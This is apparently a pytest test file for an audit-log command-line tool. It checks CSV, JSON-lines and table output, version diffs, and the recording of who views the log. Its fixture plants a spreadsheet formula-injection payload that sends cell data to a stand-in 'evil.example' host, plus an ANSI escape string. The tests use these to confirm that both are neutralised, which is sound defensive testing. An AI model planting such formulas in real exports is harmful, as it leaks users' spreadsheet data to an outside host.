"""`souk audit`: tables, JSON lines and CSV, and that whoever looks is recorded."""

import csv
import io
import json

import pytest

from entrypoints.cli.entries import _shown, safe
from tests.support.commands import souk
from tests.support.http import running_api

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture(scope="module")
async def api(stack, new_database):
    database = new_database()
    async with running_api(stack, database, projecting=False) as api:
        await api.market("amina")
        headers = {"idempotency-key": "tea", "user-agent": FORMULA}
        price = {"amount": "1.00", "currency": "DZD"}
        body = {"name": "\x1b[31mTea", "slug": "tea", "price": price}
        made = await api.of("seller", "amina").send(
            "POST", "/catalog/products", headers=headers, json=body
        )
        assert made.status_code == 201, made.text
        api.tea = made.json()["id"]
        yield api
    stack.drop(database)


async def lines(api, *words):
    result = await souk(api, "audit", *words, "--tenant", "bazaar")
    assert result.exit_code == 0, result.output
    return result.stdout


async def test_the_log_as_json_lines_is_what_the_api_tells(api):
    told = await lines(api, "log", "--context", "catalog", "--format", "jsonl", "--oldest-first")
    auditor = api.of("auditor", "nadia")
    over_http = (await auditor.get("/audit/events", context="catalog", order="asc")).json()
    assert [json.loads(line) for line in told.splitlines()] == over_http["items"]


async def test_the_log_goes_on_over_pages_until_its_limit(api):
    told = await lines(api, "log", "--format", "jsonl", "--limit", "3", "--position-before", "9")
    assert [json.loads(line)["position"] for line in told.splitlines()] == [8, 7, 6]


async def test_no_cell_of_a_csv_is_a_formula(api):
    told = await lines(api, "log", "--context", "catalog", "--format", "csv")
    header, row = csv.reader(io.StringIO(told))
    assert row[header.index("agent")] == f"'{FORMULA}"
    assert row[header.index("actor")] == "amina"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("start", [*"=+-@", *"＝＋－＠", "\t", "\r", "\n", "\0"])  # noqa: RUF001
def test_a_cell_that_begins_as_a_formula_is_made_text(start):
    assert safe(f"{start}1") == f"'{start}1"
    assert safe(f"1{start}") == f"1{start}"


async def test_the_table_shows_old_and_new(api):
    told = await lines(api, "log", "--context", "catalog")
    assert "catalog.product_created" in told
    assert 'seller: "" → "amina"' in told
    assert "\x1b[31m" not in told


def test_what_others_wrote_does_not_reach_the_terminal_as_control_characters():
    assert _shown("a\x1b[31mb\nc").plain == "a\\x1b[31mb\nc"


async def test_a_stream_is_shown_and_compared(api):
    path = f"catalog/{api.tea}"
    shown = json.loads(await lines(api, "show", path, "--at", "version:1"))
    assert shown["state"]["seller"] == "amina"
    changed = (await lines(api, "diff", path, "--from", "version:0")).splitlines()
    assert {"path": "seller", "old": "", "new": "amina"} in map(json.loads, changed)


@pytest.mark.parametrize(
    "words",
    [
        ("show", "catalog"),
        ("show", "catalog/unknown"),
        ("show", "tenants/bazaar", "--at", "noon"),
        ("log", "--recorded-from", "yesterday"),
    ],
)
async def test_what_cannot_be_shown_is_said_in_a_line(api, words):
    result = await souk(api, "audit", *words, "--tenant", "bazaar")
    assert result.exit_code == 2
    assert "Traceback" not in result.output


async def test_a_tenant_in_which_nothing_happened_stays_as_it_is(api):
    result = await souk(api, "audit", "log", "--tenant", "nowhere")
    assert result.exit_code == 2
    assert not await api.souk.history.has("nowhere")


async def test_whoever_looks_is_recorded(api):
    await lines(api, "show", "tenants/bazaar", "--purpose", "yearly")
    told = await lines(
        api, "log", "--context", "audit", "--format", "jsonl", "--text", "souk audit show"
    )
    entry = json.loads(told.splitlines()[0])
    assert entry["actor"].startswith("cli:")
    assert entry["origin"] == {"channel": "cli", "ip": "", "agent": "", "erased": False}
    assert entry["data"]["purpose"] == "yearly"
    assert json.loads(entry["data"]["query"]) == {"stream": "tenants/bazaar"}
